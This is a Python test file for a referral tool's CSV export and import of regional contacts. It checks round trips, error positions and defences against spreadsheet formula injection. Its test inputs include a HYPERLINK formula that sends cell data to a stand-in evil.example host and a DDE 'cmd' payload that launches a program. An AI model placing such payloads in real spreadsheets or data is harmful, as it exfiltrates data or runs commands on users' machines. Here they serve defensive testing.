"""A region's contacts as CSV and back: export then import gives the same file; problems as file:row:column."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import tempfile
from collections.abc import Callable
from pathlib import Path
from xml.etree import ElementTree

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from samen_refer.checks.load import open_region
from samen_refer.checks.regions import read_region
from samen_refer.cli.app import app
from samen_refer.format.contact import Contact
from samen_refer.format.library import Library
from samen_refer.format.pathway import Condition, Term
from samen_refer.format.region import Owner, Region, RegionalContact
from samen_refer.format.region_csv import columns, export_csv, import_csv, neutralised, read_rows, restored
from samen_refer.format.region_layout import TEXT_KEYS, region_data, region_text
from samen_refer.format.shape import TEXT, text_trouble
from tests.conftest import REPO, missing

LIBRARY = Library.open(REPO / "pathways")
REGIONS = LIBRARY.region_ids()


def test_six_regions_are_shipped() -> None:
    assert REGIONS == ["amsterdam", "arnhem", "den-haag", "nijmegen", "rotterdam", "utrecht"]


@pytest.mark.parametrize("region_id", REGIONS)
def test_a_shipped_region_exported_and_imported_is_the_same_file(tmp_path: Path, region_id: str) -> None:
    pathways = tmp_path / "pathways"
    shutil.copytree(REPO / "pathways", pathways)
    shipped = pathways / "regions" / f"{region_id}.yaml"
    before = shipped.read_bytes()
    runner = CliRunner()
    exported = runner.invoke(app, ["regions", "export", region_id, "--format", "csv", "--pathways", str(pathways)])
    assert exported.exit_code == 0, exported.output
    csv_file = tmp_path / f"{region_id}.csv"
    csv_file.write_text(exported.output, encoding="utf-8")
    command = ["regions", "import", str(csv_file), "--pathways", str(pathways), "-o", str(shipped)]
    assert runner.invoke(app, command).exit_code == 2  # an existing file is never replaced without --force
    imported = runner.invoke(app, [*command, "--force"])
    assert imported.exit_code == 0, imported.output
    assert shipped.read_bytes() == before


@pytest.mark.parametrize("region_id", REGIONS)
def test_export_then_import_gives_the_same_file(tmp_path: Path, region_id: str) -> None:
    region = open_region(LIBRARY, region_id)
    exported = export_csv(region)
    written, problems = import_csv(exported, f"{region_id}.csv", region)
    assert problems == [] and written == Path(region.path).read_text(encoding="utf-8")
    path = tmp_path / f"{region_id}.yaml"
    path.write_text(written, encoding="utf-8")
    again, problems = read_region(path)
    assert problems == [] and again is not None
    assert export_csv(again) == exported
    assert region_text(again) == written
    assert [c.contact.id for c in again.contacts] == [c.contact.id for c in region.contacts]


def test_the_cli_round_trip(tmp_path: Path) -> None:
    runner = CliRunner()
    exported = runner.invoke(app, ["regions", "export", "amsterdam", "--format", "csv"])
    assert exported.exit_code == 0
    csv_file = tmp_path / "amsterdam.csv"
    csv_file.write_text(exported.output, encoding="utf-8")
    imported = runner.invoke(app, ["regions", "import", str(csv_file)])
    assert imported.exit_code == 0, imported.output
    assert imported.output == region_text(open_region(LIBRARY, "amsterdam"))
    target = tmp_path / "out.yaml"
    assert runner.invoke(app, ["regions", "import", str(csv_file), "-o", str(target)]).exit_code == 0
    assert target.read_text(encoding="utf-8") == imported.output
    refused = runner.invoke(app, ["regions", "import", str(csv_file), "-o", str(target)])
    assert refused.exit_code == 2  # never replaced without --force
    assert runner.invoke(app, ["regions", "import", str(csv_file), "-o", str(target), "--force"]).exit_code == 0


def _nijmegen_csv(column: str = "", value: str = "", extra: tuple[str, ...] = ()) -> tuple[str, str]:
    """The export of nijmegen (its header, and its first row with ``column`` set to ``value`` and ``extra`` cells
    after the last), as a spreadsheet would save it."""
    header, row = export_csv(open_region(LIBRARY, "nijmegen")).splitlines()[:2]
    cells = next(csv.reader(io.StringIO(row)))
    if column:
        cells[header.split(",").index(column)] = value
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow([*cells, *extra])
    return header, out.getvalue()


@pytest.mark.parametrize(
    ("column", "value", "expected"),
    [
        ("role", "emergency", "x.csv:2:21 [csv-cell]"),
        ("verified", "28-11-2026", "x.csv:2:17 [csv-cell]"),
        ("source", "www.example.org", "x.csv:2:18 [csv-cell]"),
        ("phone", "call us", "x.csv:2:6 [csv-cell]"),
        ("serves", "violence", "x.csv:2:22 [csv-cell]"),
        ("serves", "residence=undocumented; residence=asylum_seeker", "x.csv:2:22 [csv-cell]"),
        ("other_sources", "https://example.org www.example.org", "x.csv:2:20 [csv-cell]"),
        ("source_date", "2018/01", "x.csv:2:19 [csv-cell]"),
        ("source_date", "2018-13", "x.csv:2:19 [csv-cell]"),
        ("id", "", "x.csv:2:1 [csv-cell]"),
        # R1: a text a spreadsheet would run, neutralised or not, is refused as validate refuses it
        ("name.nl", '=HYPERLINK("https://evil.example/?d="&D2,"Zorgcafé")', "x.csv:2:2 [text-formula]"),
        ("name.nl", "'=1+1", "x.csv:2:2 [text-formula]"),
        ("does.en", "@SUM(1+1)", "x.csv:2:5 [text-formula]"),
        ("does.nl", "+cmd|' /C calc'!A0", "x.csv:2:4 [text-formula]"),
        # R2: control and direction characters, as validate refuses them, in texts and in any other cell
        ("name.nl", "Zorg\u202ecafé", "x.csv:2:2 [text-control-char]"),
        ("does.nl", "\x1b[31m rood \x07", "x.csv:2:4 [text-control-char]"),
        ("name.nl", "Zorg\x00café", "x.csv:2:2 [text-control-char]"),
        ("source", "https://example.org/\x07", "x.csv:2:18 [text-control-char]"),
    ],
)
def test_a_broken_cell_is_reported_as_file_row_column(column: str, value: str, expected: str) -> None:
    header, row = _nijmegen_csv(column, value)
    written, problems = import_csv(f"{header}\n{row}", "x.csv", open_region(LIBRARY, "nijmegen"))
    assert written is None
    assert [f"{p.path}:{p.line}:{p.col} [{p.check}]" for p in problems] == [expected]


@pytest.mark.parametrize(
    ("column", "cell", "read"),
    [
        ("does.nl", "- 24/7", "- 24/7"),  # a leading '-' may be prose: accepted as written ...
        ("does.nl", "'- 24/7", "- 24/7"),  # ... and as export neutralised it
        ("phone", "'+31 24 123 4567", "+31 24 123 4567"),
        ("phone", "+31 24 123 4567", "+31 24 123 4567"),  # as a spreadsheet saves the text it showed
        ("name.nl", "'Free in, free out' geldt niet altijd", "'Free in, free out' geldt niet altijd"),
        ("name.nl", "''=x", "'=x"),  # one apostrophe taken away, the one export added
    ],
)
def test_a_cell_is_read_as_the_text_it_holds_without_the_apostrophe_export_added(
    column: str, cell: str, read: str
) -> None:
    header, row = _nijmegen_csv(column, cell)
    rows, problems = read_rows(f"{header}\n{row}", "x.csv", ("nl", "en"))
    assert problems == []
    key, _, lang = column.partition(".")
    value = rows[0].data[key]
    assert (value[lang] if isinstance(value, dict) else value) == read


def _opened(row: str, quoted: str) -> str:
    """The row with the start of its Dutch name changed to ``quoted`` (a cell that opens a quote)."""
    return row.replace(",Zorgcafé ", quoted, 1)


OPEN, CLOSED_EARLY = ',"Zorgcafé ', ',"Zorg" café '


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        # R11: a cell beyond the last column, or a quote that is never closed, is a problem, not lost text
        (lambda h, r: h + "\n" + r.rstrip() + ",extra,more\n", ["x.csv:2:25 [csv-cell]"]),
        (lambda h, r: h + "\n" + r.rstrip() + ",,  ,more\n", ["x.csv:2:27 [csv-cell]"]),
        (lambda h, r: h + "\n" + r.rstrip() + ',"unterminated\n', ["x.csv:2:25 [csv-cell]"]),
        (lambda h, r: h + "\n" + r.rstrip() + ',"say ""hi"" and never close\n', ["x.csv:2:25 [csv-cell]"]),
        (lambda h, r: h + "\n" + _opened(r, OPEN) + r, ["x.csv:2:2 [csv-cell]"]),
        (lambda h, r: h + "\n" + r + _opened(r, CLOSED_EARLY), ["x.csv:3:2 [csv-cell]"]),
        (lambda h, r: h + "\n" + r.rstrip() + ",,\n", []),  # empty cells beyond the last column lose nothing
    ],
)
def test_a_row_that_does_not_fit_the_columns_is_reported_as_file_row_column(
    text: Callable[[str, str], str], expected: list[str]
) -> None:
    header, row = _nijmegen_csv()
    rows, problems = read_rows(text(header, row), "x.csv", ("nl", "en"))
    assert [f"{p.path}:{p.line}:{p.col} [{p.check}]" for p in problems] == expected
    assert len(rows) == (0 if expected else 1)


def test_the_messages_say_what_is_wrong_with_a_quote() -> None:
    header, row = _nijmegen_csv()
    _, [never_closed] = read_rows(header + "\n" + row.rstrip() + ',"unterminated\n', "x.csv", ("nl", "en"))
    assert never_closed.message == (
        'a quote (") opens this cell and is never closed; close it, or write a quote as two ("")'
    )
    _, [closed_early] = read_rows(header + "\n" + _opened(row, CLOSED_EARLY), "x.csv", ("nl", "en"))
    assert closed_early.message.startswith('text follows the closing quote (") of this cell')


def test_a_cell_of_any_length_a_file_may_hold_is_read_back() -> None:
    # R3: 200,000 characters in one cell (over the csv module's 131,072) were exit 70; such a region file is valid
    region = open_region(LIBRARY, "nijmegen")
    header, row = _nijmegen_csv("does.nl", "x" * 200_000)
    limit = csv.field_size_limit()
    written, problems = import_csv(f"{header}\n{row}", "x.csv", region)
    assert problems == [] and written is not None
    assert csv.field_size_limit() == limit  # as it was: the wider limit holds only while a CSV is read
    again = _read(written, "nijmegen")
    assert again.contacts[0].contact.does["nl"] == "x" * 200_000
    assert export_csv(again) == f"{header}\n{row}"


def test_a_spreadsheet_in_dutch_saves_with_semicolons(tmp_path: Path) -> None:
    region = open_region(LIBRARY, "amsterdam")
    out = io.StringIO()
    csv.writer(out, delimiter=";", lineterminator="\r\n").writerows(csv.reader(io.StringIO(export_csv(region))))
    assert import_csv(out.getvalue(), "x.csv", region) == (Path(region.path).read_text(encoding="utf-8"), [])


def test_a_wrong_header_is_row_one() -> None:
    written, problems = import_csv("naam,telefoon\n", "x.csv", open_region(LIBRARY, "nijmegen"))
    assert written is None and [(p.line, p.col, p.check) for p in problems] == [(1, 1, "csv-header")]


# Texts as people write them: any letters, digits, punctuation and symbols of any script, with spaces between
# (double spaces too), never a control character (the reader refuses those) nor spaces at either end (it strips them).
_words = (
    st.text(
        alphabet=st.characters(categories=["L", "M", "N", "P", "S", "Zs"], exclude_characters="\t"),
        min_size=1,
        max_size=160,
    )
    .map(str.strip)
    .filter(bool)
)
# Some start as a spreadsheet would read a formula (=, +, -, @), or with apostrophes before that.
_starts = st.sampled_from(["", "=", "+", "-", "@", "'", "'=", "''+", "'-", "- ", "-1+2", "@SUM(1+1)"])
_any_text = st.builds(lambda start, words: (start + words).strip(), _starts, _words)
# The texts a region file may hold: those validate accepts (not =, + or @ at the start; '-' and apostrophes are fine).
_text = _any_text.filter(lambda text: text_trouble(text, TEXT, cell=True) is None)
_id = st.from_regex(r"[a-z][a-z0-9_-]{0,10}", fullmatch=True)
_url = _id.map(lambda path: f"https://example.org/{path}")


@st.composite
def _contacts(draw: st.DrawFn, text: st.SearchStrategy[str] = _text) -> RegionalContact:
    def texts() -> dict[str, str]:
        return {"nl": draw(text), "en": draw(text)}

    contact = Contact(
        draw(_id),
        texts(),
        texts(),
        draw(st.dates().map(lambda d: d.isoformat()).filter(lambda d: len(d) == 10)),
        draw(_url),
        phone=draw(st.none() | st.from_regex(r"(\+31 )?0[0-9]{3}-[0-9]{4}", fullmatch=True)),
        url=draw(st.none() | _url),
        hours=draw(st.none() | st.builds(texts)),
        cost=draw(st.none() | st.builds(texts)),
        after_call=draw(st.none() | st.builds(texts)),
        anonymous_advice=draw(st.none() | st.booleans()),
        interpreters=draw(st.none() | st.builds(texts)),
    )
    questions = draw(st.lists(_id, max_size=3, unique=True))
    serves = (
        Condition(tuple(Term(q, tuple(draw(st.lists(_id, min_size=1, max_size=3))), (1, 1)) for q in questions))
        if questions
        else None
    )
    return RegionalContact(
        contact,
        draw(st.sampled_from(["refer", "advice", "info"])),
        serves,
        draw(st.none() | st.booleans()),
        draw(st.none() | _id),
        tuple(draw(st.lists(_url, max_size=3))),
    )


@st.composite
def _regions(draw: st.DrawFn, text: st.SearchStrategy[str] = _text) -> Region:
    def texts() -> dict[str, str]:
        return {"nl": draw(_text), "en": draw(_text)}

    return open_region(LIBRARY, "utrecht")._replace(
        name=texts(),
        municipalities=tuple(draw(st.lists(_text, min_size=1, max_size=8))),
        municipalities_source=draw(st.none() | _url),
        owner=Owner(texts(), texts(), draw(st.none() | _url), draw(st.none() | st.just("kaart@example.org"))),
        contacts=tuple(draw(st.lists(_contacts(text), max_size=4, unique_by=lambda c: c.contact.id))),
    )


def _read(text: str, region_id: str = "utrecht") -> Region:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / f"{region_id}.yaml"
        path.write_text(text, encoding="utf-8")
        region, problems = read_region(path)
    assert problems == [] and region is not None
    return region


@settings(max_examples=60, deadline=None)
@given(region=_regions())
def test_any_region_survives_the_round_trip(region: Region) -> None:
    exported = export_csv(region)
    written, problems = import_csv(exported, "x.csv", region)
    assert problems == [] and written is not None
    again = _read(written)
    assert export_csv(again) == exported  # export, import, export: the same CSV
    assert region_data(again) == region_data(region)  # every fact, as it was


@settings(max_examples=60, deadline=None)
@given(region=_regions())
def test_a_file_in_the_layout_is_what_import_writes(region: Region) -> None:
    canonical = region_text(region)
    again = _read(canonical)
    assert region_text(again) == canonical  # read and written again: the same bytes
    assert import_csv(export_csv(again), "x.csv", again) == (canonical, [])  # import of its export: the same bytes


@given(cell=st.text())
def test_import_takes_away_exactly_the_apostrophe_export_added(cell: str) -> None:
    assert restored(neutralised(cell)) == cell
    assert neutralised(cell)[:1] not in ("=", "+", "-", "@", "\t", "\r")


def _cells(exported: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(exported)) for cell in row]


@settings(max_examples=60, deadline=None)
@given(region=_regions(_any_text))
def test_no_exported_cell_starts_a_formula_and_import_refuses_only_the_texts_validate_refuses(region: Region) -> None:
    exported = export_csv(region)
    assert [cell for cell in _cells(exported) if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    written, problems = import_csv(exported, "x.csv", region)
    header = columns(region.languages)
    refused = {  # the texts validate refuses, at their rows and columns
        (row, header.index(f"{key}.{lang}") + 1)
        for row, regional in enumerate(region.contacts, 2)
        for key in TEXT_KEYS
        for lang, text in (getattr(regional.contact, key) or {}).items()
        if text_trouble(text, TEXT, cell=True) is not None
    }
    assert {(p.line, p.col) for p in problems} == refused
    assert {p.check for p in problems} <= {"text-formula"}
    assert (written is None) == bool(refused)


# R1: a spreadsheet opens the export and runs nothing. LibreOffice Calc reads the CSV as the probe did (comma, quote,
# UTF-8, from row 1; formulas evaluated) and saves it as flat XML, whose cells say whether they hold a formula.
_TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
_TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
_ATTACKS = ('=HYPERLINK("https://evil.example/?d="&D2,"x")', "+cmd|' /C calc'!A0", "-1+2", "@SUM(1+1)")


def test_libreoffice_calc_shows_every_exported_text_as_text_and_runs_no_formula(tmp_path: Path) -> None:
    soffice = shutil.which("soffice")
    if soffice is None:
        missing("LibreOffice Calc is not installed (apt-get install libreoffice-calc-nogui)")
    region = open_region(LIBRARY, "nijmegen")
    regional = region.contacts[0]
    name, does = {"nl": _ATTACKS[0], "en": _ATTACKS[1]}, {"nl": _ATTACKS[2], "en": _ATTACKS[3]}
    contact = regional.contact._replace(name=name, does=does, phone="+31 24 123 4567")
    csv_file = tmp_path / "nijmegen.csv"
    csv_file.write_text(export_csv(region._replace(contacts=(regional._replace(contact=contact),))), encoding="utf-8")
    command = [
        soffice,
        f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",  # its own profile: tests may run side by side
        "--headless",
        "--infilter=CSV:44,34,76,1",
        "--convert-to",
        "fods",
        "--outdir",
        str(tmp_path),
        str(csv_file),
    ]
    subprocess.run(command, capture_output=True, timeout=120, check=True)
    sheet = ElementTree.parse(tmp_path / "nijmegen.fods")
    cells = list(sheet.iter(f"{{{_TABLE}}}table-cell"))
    assert [cell.attrib for cell in cells if f"{{{_TABLE}}}formula" in cell.attrib] == []
    shown = ["".join(line.itertext()) for cell in cells for line in cell.iter(f"{{{_TEXT}}}p")]
    for text in [*_ATTACKS, "+31 24 123 4567"]:  # shown as text, after the apostrophe that keeps it so
        assert f"'{text}" in shown
